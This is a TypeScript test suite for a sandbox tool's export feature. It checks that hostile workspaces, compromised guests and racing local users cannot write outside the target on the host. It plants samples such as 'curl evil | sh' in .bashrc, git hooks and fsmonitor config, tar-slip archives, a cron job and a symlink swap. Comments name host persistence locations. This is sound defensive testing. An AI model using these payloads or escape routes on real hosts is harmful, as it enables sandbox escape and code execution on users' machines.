/**
 * Export is the dangerous direction (docs/security.md, "Export"): what comes
 * out of a sandbox is written on the host. Two kinds of attacker:
 *
 * - a hostile workspace (any process of the sandbox): symlinks to host
 *   paths, symlinked directories, fifos, device-like entries, huge files;
 * - a compromised guest (a VM whose kernel or agent is the attacker's): it
 *   can send any bytes at all as the "tar stream". PYRO_TEST_EXPORT_COMMAND
 *   makes the sandbox run `cat` of a hand-made archive instead of the agent,
 *   so the host's side is tried with archives no honest agent makes.
 *
 * Every attack must fail or be left out, write nothing outside the target,
 * leave no staging directory, and never follow a host symlink.
 */
import { test } from "node:test";
import assert from "node:assert/strict";
import { existsSync, lstatSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, readlinkSync, renameSync, rmSync, symlinkSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { Pyro, PyroError } from "../../src/index.js";
import { cacheDir } from "../../src/util/paths.js";
import { cleanupState, testPyro } from "../helpers/sandbox.js";
import { rawTar, type RawEntry } from "../helpers/tarfix.js";

const ENV = "busybox";

function tempDir(t: import("node:test").TestContext): string {
  const dir = mkdtempSync(join(tmpdir(), "pyro-export-"));
  t.after(() => rmSync(dir, { recursive: true, force: true }));
  return dir;
}

async function code(p: Promise<unknown>): Promise<string> {
  try {
    await p;
    return "ok";
  } catch (e) {
    assert.ok(e instanceof PyroError, `expected PyroError, got ${e}`);
    return e.code;
  }
}

/** Every path under dir, with what it is (symlinks by target), for before/after comparisons. */
function tree(dir: string): string[] {
  const out: string[] = [];
  const walk = (p: string, rel: string) => {
    for (const name of readdirSync(p)) {
      const full = join(p, name);
      const r = rel ? `${rel}/${name}` : name;
      const st = lstatSync(full);
      out.push(`${r} ${st.isSymbolicLink() ? `-> ${readlinkSync(full)}` : st.isDirectory() ? "dir" : st.isFile() ? `file ${st.size}` : "other"}`);
      if (st.isDirectory()) walk(full, r);
    }
  };
  walk(dir, "");
  return out.sort();
}

test("a hostile workspace: links to host paths, symlinked directories, fifos and huge files never reach or leave the target", { timeout: 300_000 }, async (t) => {
  const { pyro } = testPyro(t);
  const host = tempDir(t);
  const secret = join(host, "secret.txt");
  writeFileSync(secret, "the host's secret\n");
  const { task_id } = await pyro.createTask({ environment: ENV });
  const planted = await pyro.execTask({
    task_id,
    command: [
      "cd /workspace",
      `ln -s ${secret} secret-link`,
      "ln -s / rootdir",
      "ln -s ../../../../etc up-and-out",
      "mkdir sub && ln -s ../sub/ok.txt sub/inside-link && echo fine > sub/ok.txt",
      "mkfifo fifo",
      // A name that, printed raw, would be a second line: a skipped entry that does not exist.
      "mkfifo \"$(printf 'nl\\nskipped: fifo forged')\"",
      "mkdir -p 'a/..b' && echo dots > 'a/..b/..c'",
    ].join(" && "),
  });
  assert.equal(planted.exit_code, 0, planted.stderr);
  const before = tree(host);
  // A subtree that is a symlink is refused by name, never followed (and says so, not "damaged archive").
  for (const path of ["/workspace/rootdir", "/workspace/secret-link"]) {
    await assert.rejects(pyro.exportTask({ task_id, target: join(host, "via-link"), path }), (e: unknown) => e instanceof PyroError && e.code === "path_not_allowed" && /symlink/.test(e.message));
  }
  assert.deepEqual(tree(host), before, "nothing was written for them");
  const target = join(host, "out");
  const r = await pyro.exportTask({ task_id, target });
  assert.deepEqual(r.skipped.map((s) => s.path).sort(), ["fifo", "nl\nskipped: fifo forged", "rootdir", "secret-link", "up-and-out"]);
  assert.deepEqual(tree(target), ["a dir", "a/..b dir", "a/..b/..c file 5", "sub dir", "sub/inside-link -> ../sub/ok.txt", "sub/ok.txt file 5"]);
  assert.equal(readFileSync(secret, "utf8"), "the host's secret\n");
  assert.deepEqual(tree(host).filter((l) => !l.startsWith("out")), before, "nothing else on the host changed");

  // A huge (sparse) file past the export's byte limit: refused, nothing written.
  await pyro.execTask({ task_id, command: "dd if=/dev/zero of=/workspace/huge bs=1 count=0 seek=6G 2>/dev/null; ls -l /workspace/huge" });
  const huge = join(host, "huge-out");
  assert.match(await code(pyro.exportTask({ task_id, target: huge, max_bytes: 64 * 1024 * 1024 })), /^(unsafe_archive|limit_exceeded)$/);
  assert.equal(existsSync(huge), false);
  assert.deepEqual(readdirSync(host).filter((n) => n.startsWith(".pyro-export")), [], "no staging directory left");
});

test("targets: a symlink, a file, an existing directory without merge, a merge through a host symlink: all refused, nothing written", { timeout: 300_000 }, async (t) => {
  const { pyro } = testPyro(t);
  const host = tempDir(t);
  const { task_id } = await pyro.createTask({ environment: ENV });
  await pyro.writeTaskFile({ task_id, path: "etc/passwd", content: "pwned\n" });
  const elsewhere = join(host, "elsewhere");
  mkdirSync(elsewhere);
  symlinkSync(elsewhere, join(host, "link-to-dir"));
  assert.equal(await code(pyro.exportTask({ task_id, target: join(host, "link-to-dir") })), "target_exists");
  assert.equal(await code(pyro.exportTask({ task_id, target: join(host, "link-to-dir"), merge: true })), "target_exists");
  writeFileSync(join(host, "a-file"), "keep\n");
  assert.equal(await code(pyro.exportTask({ task_id, target: join(host, "a-file"), merge: true })), "target_exists");
  assert.equal(await code(pyro.exportTask({ task_id, target: join(host, "a-file.tar") })), "ok");
  assert.equal(await code(pyro.exportTask({ task_id, target: join(host, "a-file.tar") })), "target_exists", "a tar is never overwritten");
  assert.equal(await code(pyro.exportTask({ task_id, target: join(host, "missing-parent", "out") })), "invalid_argument");
  // Merge into a directory whose etc is a symlink to a host directory: refused before anything moves.
  const merge = join(host, "merge");
  mkdirSync(merge);
  symlinkSync(elsewhere, join(merge, "etc"));
  assert.equal(await code(pyro.exportTask({ task_id, target: merge, merge: true })), "target_exists");
  assert.deepEqual(readdirSync(elsewhere), [], "nothing was written through the host's symlink");
  assert.equal(readFileSync(join(host, "a-file"), "utf8"), "keep\n");
  assert.deepEqual(readdirSync(host).filter((n) => n.startsWith(".pyro-export")), []);
});

test("no export lands in pyro's own state or cache directory: a record forged in the workspace never replaces a task's record", { timeout: 300_000 }, async (t) => {
  // The state directory inside a "home" that an MCP server started there allows: a model that could export
  // into it could rewrite a task's record.json (its rootfs naming a host directory, mounted into the next sandbox).
  // One hook, cleanupState first: node:test runs after-hooks in the order they were added, and a tempDir(base)
  // added before this one removed the state directory under the two running tasks, leaving their cgroups behind.
  const base = mkdtempSync(join(tmpdir(), "pyro-export-"));
  const home = join(base, "h");
  const stateDir = join(home, "st"); // short: a socket path lives below it
  mkdirSync(stateDir, { recursive: true });
  const pyro = new Pyro({ stateDir });
  t.after(async () => {
    await cleanupState(pyro, stateDir);
    rmSync(base, { recursive: true, force: true });
  });
  const victim = await pyro.createTask({ environment: ENV });
  const attacker = await pyro.createTask({ environment: ENV });
  const recordPath = join(stateDir, "tasks", victim.task_id, "record.json");
  const record = readFileSync(recordPath, "utf8");
  const forged = { ...JSON.parse(record), rootfs: base };
  await pyro.writeTaskFile({ task_id: attacker.task_id, path: "record.json", content: JSON.stringify(forged) });
  await pyro.writeTaskFile({ task_id: attacker.task_id, path: "st/tasks/" + victim.task_id + "/record.json", content: JSON.stringify(forged) });
  symlinkSync(join(stateDir, "tasks"), join(base, "link-to-tasks"));
  const attempts: Array<[string, { target: string; merge?: boolean; path?: string }]> = [
    ["merge into the victim's directory", { target: join(stateDir, "tasks", victim.task_id), merge: true }],
    ["a new task directory", { target: join(stateDir, "tasks", "task_0123456789ab") }],
    ["a tar in the tasks directory", { target: join(stateDir, "tasks", "x.tar") }],
    ["through a symlinked ancestor", { target: join(base, "link-to-tasks", victim.task_id, "logs"), merge: true }],
    ["merge into a directory above the state directory", { target: home, merge: true }],
    ["the cache's environments", { target: join(cacheDir(), "environments", "forged") }],
  ];
  for (const [what, args] of attempts) {
    let error: unknown = null;
    try {
      await pyro.exportTask({ task_id: attacker.task_id, ...args });
    } catch (e) {
      error = e;
    }
    assert.ok(error instanceof PyroError && error.code === "invalid_argument", `${what}: refused (got ${error instanceof PyroError ? error.code : "success"})`);
    assert.match((error as PyroError).message, /pyro's own (state|cache) directory/, what);
  }
  assert.equal(readFileSync(recordPath, "utf8"), record, "the victim's record is untouched");
  assert.deepEqual(readdirSync(join(stateDir, "tasks")).filter((n) => !n.startsWith(".")).sort(), [attacker.task_id, victim.task_id].sort(), "no task directory was made");
  assert.equal(existsSync(join(cacheDir(), "environments", "forged")), false);
  assert.deepEqual(readdirSync(home), ["st"], "nothing was merged above the state directory");
});

test("no export lands where the host runs what it finds (a home itself, its dot-entries, PATH, .git), and git metadata never leaves", { timeout: 300_000 }, async (t) => {
  const { pyro } = testPyro(t);
  const base = tempDir(t);
  const home = join(base, "home");
  const onPath = join(base, "tools", "bin");
  const project = join(home, "projects", "app");
  mkdirSync(join(home, ".config"), { recursive: true });
  mkdirSync(onPath, { recursive: true });
  mkdirSync(join(project, ".git", "hooks"), { recursive: true });
  const saved = { HOME: process.env.HOME, PATH: process.env.PATH };
  process.env.HOME = home;
  process.env.PATH = `${onPath}:${saved.PATH}`;
  t.after(() => {
    process.env.HOME = saved.HOME;
    process.env.PATH = saved.PATH;
  });
  const { task_id } = await pyro.createTask({ environment: ENV });
  // What a model (or code it ran) would plant to run on the host: a login script, a git hook and config, a tool on PATH.
  await pyro.writeTaskFile({ task_id, path: ".bashrc", content: "curl evil | sh\n" });
  await pyro.writeTaskFile({ task_id, path: ".git/hooks/pre-commit", content: "#!/bin/sh\ncurl evil | sh\n", mode: 0o755 });
  await pyro.writeTaskFile({ task_id, path: ".git/config", content: "[core]\n\tfsmonitor = curl evil | sh\n" });
  await pyro.writeTaskFile({ task_id, path: "vendor/lib/.git", content: "gitdir: ../../.git\n" });
  await pyro.writeTaskFile({ task_id, path: "ls", content: "#!/bin/sh\ncurl evil | sh\n", mode: 0o755 });
  await pyro.writeTaskFile({ task_id, path: "src/main.c", content: "int main(void) { return 0; }\n" });
  const ln = await pyro.execTask({ task_id, command: "ln .git/config config-link" });
  assert.equal(ln.exit_code, 0, ln.stderr);

  const before = tree(base);
  const attempts: Array<[string, { target: string; merge?: boolean; format?: "dir" | "tar"; path?: string }, RegExp]> = [
    // (the default state directory lies in the home as well: either refusal is right)
    ["merge into the home itself", { target: home, merge: true }, /the home directory|pyro's own state directory/],
    ["merge into a directory above the home", { target: base, merge: true }, /above the home directory|PATH|pyro's own state directory/],
    ["a new directory in ~/.config (autostart, systemd units)", { target: join(home, ".config", "autostart") }, /startup files or configuration/],
    ["a new dot-directory of the home", { target: join(home, ".profile.d") }, /startup files or configuration/],
    ["a tar as a dotfile of the home", { target: join(home, ".bashrc.tar"), format: "tar" }, /startup files or configuration/],
    ["merge into a directory on PATH", { target: onPath, merge: true }, /on the host's PATH/],
    ["a new directory above a PATH directory's parent", { target: join(base, "tools"), merge: true }, /on the host's PATH/],
    ["merge into a repository's hooks", { target: join(project, ".git", "hooks"), merge: true }, /repository's metadata \(\.git\)/],
    ["a new directory in a repository's metadata", { target: join(project, ".git", "info") }, /repository's metadata \(\.git\)/],
    ["the workspace's .git as the subtree", { target: join(home, "projects", "git-copy"), path: ".git" }, /repository metadata, which is never exported/],
  ];
  for (const [what, args, why] of attempts) {
    let error: unknown = null;
    try {
      await pyro.exportTask({ task_id, ...args });
    } catch (e) {
      error = e;
    }
    assert.ok(error instanceof PyroError && error.code === "invalid_argument", `${what}: refused (got ${error instanceof PyroError ? `${error.code}: ${error.message}` : "success"})`);
    assert.match((error as PyroError).message, why, what);
  }
  assert.deepEqual(tree(base), before, "nothing was written anywhere");

  // Into the project itself (a merge, as a model closing the loop would): the code lands, the repository's metadata does not.
  const r = await pyro.exportTask({ task_id, target: project, merge: true });
  assert.equal(readFileSync(join(project, "src", "main.c"), "utf8"), "int main(void) { return 0; }\n");
  assert.deepEqual(readdirSync(join(project, ".git", "hooks")), [], "no hook reached the host's repository");
  assert.equal(existsSync(join(project, ".git", "config")), false);
  assert.equal(existsSync(join(project, "vendor", "lib", ".git")), false);
  const skipped = Object.fromEntries(r.skipped.map((s) => [s.path, s.reason]));
  assert.match(skipped[".git"] ?? "", /repository metadata/);
  assert.match(skipped["vendor/lib/.git"] ?? "", /repository metadata/);
  // The hard link pair: whichever the walk meets first carries the content. A link entry into .git is left out;
  // the content under its own name (outside .git) is a plain file, which no git runs.
  if (existsSync(join(project, "config-link"))) assert.equal(lstatSync(join(project, "config-link")).nlink, 1);
  else assert.match(skipped["config-link"] ?? "", /hard link into repository metadata/);
  // A project's own dotfiles are a project's: exported (a home's are refused above, by the target).
  assert.equal(readFileSync(join(project, ".bashrc"), "utf8"), "curl evil | sh\n");
  assert.deepEqual(readdirSync(project).filter((n) => n.startsWith(".pyro-export")), []);
});

// A server run as root and started in / (a container's default) allows all of /: the host's own
// configuration is where it runs what it finds (cron.d, profile.d, systemd units, ld.so.preload).
// (Refused before anything is written, so the refusal is the same as a user, who could not write there anyway.)
// /run and /var/lib too: kmod runs the `install` commands of /run/modprobe.d on the next module autoload
// (which any local user triggers with a socket of an unloaded family), udev the RUN+= of /run/udev/rules.d on
// the next uevent, systemd loads units from /run/systemd; cloud-init runs /var/lib/cloud/scripts/per-boot at
// every boot and polkit grants what /var/lib/polkit-1/localauthority says.
test("no export lands in the host's system directories (/etc, /usr, /boot, /lib, /var/spool, /var/lib, /run)", { timeout: 120_000 }, async (t) => {
  const { pyro } = testPyro(t);
  const { task_id } = await pyro.createTask({ environment: ENV });
  await pyro.writeTaskFile({ task_id, path: "job", content: "* * * * * root echo planted\n" });
  const tag = `pyro-export-test-${process.pid}`;
  // A symlinked one (/lib on a merged-/usr host) is refused as a link first: the real directories are the test.
  const targets = ["/etc", "/usr/lib", "/boot", "/lib", "/var/spool", "/var/lib", "/run"].filter((d) => existsSync(d) && !lstatSync(d).isSymbolicLink()).map((d) => join(d, tag));
  t.after(() => targets.forEach((d) => rmSync(d, { recursive: true, force: true })));
  for (const target of targets) {
    let error: unknown = null;
    try {
      await pyro.exportTask({ task_id, target });
    } catch (e) {
      error = e;
    }
    assert.equal(existsSync(target), false, `${target}: the export wrote into the host's system directory`);
    assert.ok(error instanceof PyroError && error.code === "invalid_argument", `${target}: refused (got ${error instanceof PyroError ? `${error.code}: ${error.message}` : "success"})`);
    assert.match(error.message, /the host's own system directories/, target);
  }
  let error: unknown = null;
  try {
    await pyro.exportTask({ task_id, target: "/", merge: true });
  } catch (e) {
    error = e;
  }
  assert.ok(error instanceof PyroError && error.code === "invalid_argument", `merge into /: ${String(error)}`);
  assert.equal(existsSync("/job"), false);
});

// What an export leaves out is listed, not written: a sandbox can make that list as long as its inodes allow,
// and the host built it once with a scan of the list per entry (quadratic: 100,000 `.git` directories took
// 27 s of the CPU of the process serving every other call).
test("entries an export leaves out cost the host linear time and count toward max_files", { timeout: 300_000 }, async (t) => {
  const { pyro } = testPyro(t);
  const base = tempDir(t);
  const { task_id } = await pyro.createTask({ environment: ENV });
  // 60,000 symlinks out of the tree (each listed) and, among them in the walk's (readdir) order, 200
  // repositories of 600 metadata entries each (each repository listed once). Only 200 directories are written.
  const made = await pyro.execTask({ task_id, command: "cd /workspace/ && mkdir links && seq 1 60000 | sed 's|^|/nowhere/l|' | xargs sh -c 'ln -s \"$@\" links/' x && for g in $(seq 1 200); do mkdir -p links/g$g/.git; done && for g in $(seq 1 200); do seq 1 600 | sed \"s|^|links/g$g/.git/o|\"; done | xargs touch && echo made", timeout_seconds: 240 });
  assert.match(made.stdout, /made/, made.stderr);

  const cpu = process.cpuUsage();
  const r = await pyro.exportTask({ task_id, target: join(base, "all") });
  const used = process.cpuUsage(cpu);
  const seconds = (used.user + used.system) / 1e6;
  assert.equal(r.skipped.length, 60200, "every left-out entry is listed, each .git once");
  assert.ok(seconds < 5, `the export of 180,000 left-out entries took ${seconds.toFixed(1)} s of this process's CPU`);

  // Past max_files, left-out entries refuse the export as exported ones do: the list is bounded too.
  let error: unknown = null;
  try {
    await pyro.exportTask({ task_id, target: join(base, "links"), path: "links", max_files: 1000 });
  } catch (e) {
    error = e;
  }
  assert.ok(error instanceof PyroError && error.code === "unsafe_archive", `60,000 left-out symlinks past max_files 1000: ${error instanceof PyroError ? error.message : "exported"}`);
  assert.match(error.message, /leaves out more than 1000 entries/);
  assert.equal(existsSync(join(base, "links")), false, "nothing was written");
});

test("another user who can write the target's parent swaps the staging directory for a link mid-export: nothing lands outside the target", { timeout: 300_000 }, async (t) => {
  // A root pyro exporting into a user's directory: that user can rename what pyro makes there and plant a
  // symlink under its name. The guest (here a hand-made stream) pauses between two entries, which is when the swap happens.
  const { pyro } = testPyro(t);
  const host = tempDir(t);
  const victim = join(host, "victim"); // a directory the user could not write: where the link points
  mkdirSync(victim);
  const userDir = join(host, "user");
  const evil = join(host, "evil");
  mkdirSync(userDir);
  mkdirSync(evil);
  symlinkSync(victim, join(evil, "tree")); // the stage's "tree" seen through the planted link
  const { task_id } = await pyro.createTask({ environment: ENV });
  const first = rawTar([{ path: "a.txt", body: "first\n" }]).subarray(0, 1024);
  const second = rawTar([{ path: "cron-job", body: "* * * * * root /tmp/pwn\n" }]);
  await pyro.writeTaskFile({ task_id, path: ".attack/1.tar", content: first.toString("base64"), encoding: "base64" });
  await pyro.writeTaskFile({ task_id, path: ".attack/2.tar", content: second.toString("base64"), encoding: "base64" });
  process.env.PYRO_TEST_EXPORT_COMMAND = JSON.stringify(["/bin/sh", "-c", "cat /workspace/.attack/1.tar; sleep 2; cat /workspace/.attack/2.tar"]);
  t.after(() => delete process.env.PYRO_TEST_EXPORT_COMMAND);
  const swapped: string[] = [];
  const swapper = (async () => {
    for (let i = 0; i < 150 && swapped.length === 0; i++) {
      await new Promise((r) => setTimeout(r, 20));
      for (const n of readdirSync(userDir).filter((x) => x.startsWith(".pyro-export-"))) {
        renameSync(join(userDir, n), join(host, `moved-${n}`));
        symlinkSync(evil, join(userDir, n));
        swapped.push(n);
      }
    }
  })();
  let outcome: string;
  try {
    const r = await pyro.exportTask({ task_id, target: join(userDir, "out") });
    outcome = `exported ${r.files} files`;
  } catch (e) {
    outcome = e instanceof PyroError ? e.code : String(e);
  }
  await swapper;
  assert.equal(swapped.length, 1, "the staging directory was swapped while the guest paused");
  assert.deepEqual(readdirSync(victim), [], `nothing was written through the planted link (${outcome})`);
  // What was written stayed in the real staging directory (moved away with it) or reached the target.
  const landed = existsSync(join(userDir, "out")) ? tree(join(userDir, "out")) : [];
  assert.ok(landed.length === 0 || landed.includes("cron-job file 24"), `the target holds the export or nothing: ${landed.join(", ")}`);
});

test("a compromised guest's archives: `..`, absolute paths, writes through its own symlinks, hard links out, devices, entries outside the subtree, lies about sizes", { timeout: 300_000 }, async (t) => {
  const { pyro } = testPyro(t);
  const host = tempDir(t);
  const victim = join(host, "victim");
  mkdirSync(victim);
  writeFileSync(join(victim, "keep.txt"), "untouched\n");
  const { task_id } = await pyro.createTask({ environment: ENV });
  const attacks: Array<{ name: string; entries: RawEntry[]; path?: string; cut?: number; expect: string | ((r: any, target: string) => void) }> = [
    { name: "`..` in a name", entries: [{ path: "../victim/keep.txt", body: "pwned\n" }], expect: "unsafe_archive" },
    { name: "a deep `..`", entries: [{ path: "a/../../victim/x", body: "pwned\n" }], expect: "unsafe_archive" },
    { name: "an absolute path", entries: [{ path: `${victim}/keep.txt`, body: "pwned\n" }], expect: "unsafe_archive" },
    {
      name: "a file through the archive's own symlink",
      entries: [
        { path: "esc", type: "SymbolicLink", linkpath: "sub" },
        { path: "sub/", type: "Directory" },
        { path: "esc/x", body: "through a link\n" },
      ],
      expect: "unsafe_archive",
    },
    {
      name: "a symlink to a host directory, then a file under it",
      entries: [
        { path: "out", type: "SymbolicLink", linkpath: victim },
        { path: "out/keep.txt", body: "pwned\n" },
      ],
      // The link is left out, so "out" is an ordinary directory of the target: the file lands inside it.
      expect: (r, target) => {
        assert.deepEqual(r.skipped.map((s: any) => s.path), ["out"]);
        assert.deepEqual(tree(target), ["out dir", "out/keep.txt file 6"]);
      },
    },
    { name: "a hard link to a host file", entries: [{ path: "hl", type: "Link", linkpath: `${victim}/keep.txt` }], expect: "unsafe_archive" },
    { name: "a hard link out with `..`", entries: [{ path: "hl", type: "Link", linkpath: "../victim/keep.txt" }], expect: "unsafe_archive" },
    {
      name: "device nodes and fifos",
      entries: [
        { path: "null", type: "CharacterDevice" },
        { path: "sda", type: "BlockDevice" },
        { path: "p", type: "FIFO" },
        { path: "ok.txt", body: "fine\n" },
      ],
      expect: (r, target) => {
        assert.deepEqual(r.skipped.map((s: any) => s.path).sort(), ["null", "p", "sda"]);
        assert.deepEqual(tree(target), ["ok.txt file 5"]);
      },
    },
    { name: "an entry outside the requested subtree", path: "/workspace/sub", entries: [{ path: "sub/", type: "Directory" }, { path: "other/x", body: "x\n" }], expect: "unsafe_archive" },
    { name: "a stream that ends inside a file", entries: [{ path: "big", size: 10 * 1024 * 1024, body: "short" }], cut: 512 + 4096, expect: "unsafe_archive" },
    { name: "a declared size past the limit", entries: [{ path: "bomb", size: 80 * 1024 * 1024 }], cut: 1024, expect: "limit_exceeded_or_unsafe" },
    { name: "set-id bits", entries: [{ path: "suid", body: "x", mode: 0o4755 }], expect: (r, target) => assert.equal(lstatSync(join(target, "suid")).mode & 0o7777, 0o755) },
    {
      name: "git metadata, and a hard link into it",
      entries: [
        { path: ".git/", type: "Directory" },
        { path: ".git/hooks/post-checkout", body: "#!/bin/sh\ncurl evil | sh\n", mode: 0o755 },
        { path: ".git/config", body: "[core]\n\tfsmonitor = curl evil | sh\n" },
        { path: "cfg", type: "Link", linkpath: ".git/config" },
        { path: "deep/x/.git", body: "gitdir: /elsewhere\n" },
        { path: ".hg/hgrc", body: "[hooks]\nprecommit = curl evil | sh\n" },
        { path: "ok.txt", body: "fine\n" },
      ],
      expect: (r, target) => {
        assert.deepEqual(r.skipped.map((s: any) => `${s.path}: ${s.reason}`).sort(), [
          ".git: repository metadata: its hooks and config would run in the host's git or hg (never exported)",
          ".hg: repository metadata: its hooks and config would run in the host's git or hg (never exported)",
          "cfg: a hard link into repository metadata (never exported)",
          "deep/x/.git: repository metadata: its hooks and config would run in the host's git or hg (never exported)",
        ]);
        assert.deepEqual(tree(target), ["ok.txt file 5"]);
      },
    },
  ];
  const archiveDir = "/workspace/.attack";
  for (const [i, a] of attacks.entries()) {
    const full = rawTar(a.entries);
    const tar = a.cut ? full.subarray(0, a.cut) : full;
    await pyro.writeTaskFile({ task_id, path: `${archiveDir}/${i}.tar`, content: tar.toString("base64"), encoding: "base64" });
    process.env.PYRO_TEST_EXPORT_COMMAND = JSON.stringify(["/bin/cat", `${archiveDir}/${i}.tar`]);
    const target = join(host, `out-${i}`);
    try {
      const p = pyro.exportTask({ task_id, target, ...(a.path ? { path: a.path } : {}), max_bytes: 64 * 1024 * 1024 });
      if (typeof a.expect === "string") {
        const got = await code(p);
        if (a.expect === "limit_exceeded_or_unsafe") assert.match(got, /^(limit_exceeded|unsafe_archive)$/, a.name);
        else assert.equal(got, a.expect, a.name);
        assert.equal(existsSync(target), false, `${a.name}: no target`);
      } else a.expect(await p, target);
    } finally {
      delete process.env.PYRO_TEST_EXPORT_COMMAND;
    }
    assert.deepEqual(tree(victim), ["keep.txt file 10"], `${a.name}: the victim directory is untouched`);
    assert.equal(readFileSync(join(victim, "keep.txt"), "utf8"), "untouched\n", a.name);
    assert.deepEqual(readdirSync(host).filter((n) => n.startsWith(".pyro-export")), [], `${a.name}: no staging directory left`);
  }
});
